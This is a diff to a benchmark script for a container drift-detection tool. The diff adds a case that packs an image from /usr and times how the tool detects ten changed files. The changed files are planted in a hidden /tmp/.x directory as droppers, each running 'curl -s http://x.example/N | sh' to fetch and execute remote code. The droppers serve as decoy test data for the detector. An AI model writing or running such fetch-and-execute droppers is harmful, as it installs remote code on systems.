@@ -3,12 +3,14 @@
 # the same blob, plus stowaway's peak RSS. Real data: tars of parts of this
 # machine's /usr, packed as gzip layers.
 #
-#   benches/bench.sh [small|large|bytes|all]
+#   benches/bench.sh [small|large|bytes|drift|all]
 #
 # small: one layer of /usr/share + /usr/bin (>100 MB, >5,000 files)
 # large: the same plus /usr/lib, split into several layers (>1 GB, >100,000 files)
 # bytes: >1 GB of large files (few thousand): peak RSS follows the number of
 #        files, not the number of bytes
+# drift: a container of the small image with 10 changed files, read as a
+#        whole root filesystem (--rootfs) and as an overlay upper dir (--upperdir)
 # Also prints the per-file inspection cost on /usr/bin (examples/inspect_cost).
 # Data is cached under bench-data/ (git-ignored).
 set -euo pipefail
@@ -98,6 +100,32 @@ if [ "$which" = large ] || [ "$which" = all ]; then
   layer usr-lib usr/lib
   layer usr-libexec-include usr/libexec usr/include usr/sbin
   run_case large "$data/usr-share-bin.tar.gz" "$data/usr-lib.tar.gz" "$data/usr-libexec-include.tar.gz"
+fi
+
+if [ "$which" = drift ] || [ "$which" = all ]; then
+  layer usr-share-bin usr/share usr/bin
+  dir="$data/small-oci"
+  [ -f "$dir/index.json" ] || { rm -rf "$dir"; "$pack" "$dir" "$data/usr-share-bin.tar.gz" >/dev/null; }
+  rootfs="$data/drift-rootfs"
+  upper="$data/drift-upper"
+  if [ ! -d "$rootfs/usr" ]; then
+    mkdir -p "$rootfs" && tar -C "$rootfs" -xzpf "$data/usr-share-bin.tar.gz"
+  fi
+  rm -rf "$upper" && mkdir -p "$upper/tmp/.x"
+  for i in $(seq 1 10); do
+    printf '#!/bin/sh\ncurl -s http://x.example/%s | sh\n' "$i" > "$upper/tmp/.x/drop$i"
+    chmod 755 "$upper/tmp/.x/drop$i"
+  done
+  mkdir -p "$rootfs/tmp/.x" && cp -p "$upper"/tmp/.x/* "$rootfs/tmp/.x/"
+  files=$(find "$rootfs" | wc -l)
+  db="$data/drift-cache.db"
+  "$bin" scan "oci:$dir" --db "$db" --format json >/dev/null || true
+  echo "== drift: image of $files files, 10 files changed"
+  r=$(measure "drift --rootfs" "$bin" drift --rootfs "$rootfs" --image "oci:$dir" --db "$db" --format json | cut -f2,3)
+  u=$(measure "drift --upperdir" "$bin" drift --upperdir "$upper" --image "oci:$dir" --db "$db" --format json | cut -f2,3)
+  echo "  drift --rootfs   : $(echo "$r" | cut -f1) s, peak RSS $(echo "$r" | cut -f2) MiB"
+  echo "  drift --upperdir : $(echo "$u" | cut -f1) s, peak RSS $(echo "$u" | cut -f2) MiB"
+  echo "  (both read the image side from the layer cache)"
 fi
 
 echo "== per-file inspection cost on /usr/bin"
